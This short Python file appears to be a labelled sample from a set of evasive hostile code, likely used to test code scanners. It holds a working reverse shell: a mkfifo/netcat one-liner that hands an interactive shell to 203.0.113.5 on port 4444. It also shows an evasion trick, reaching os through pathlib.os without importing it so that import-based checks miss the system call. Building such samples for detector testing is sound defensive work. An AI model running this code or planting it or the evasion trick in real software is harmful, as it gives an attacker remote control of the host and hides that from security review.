# evasion: os is never imported; it is reached as an attribute of another stdlib module that imported it (pathlib.os)
# grade: medium; does: shell
import pathlib
import shlex

cmd = shlex.join(["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 203.0.113.5 4444 > /tmp/f"])
pathlib.os.system(cmd)
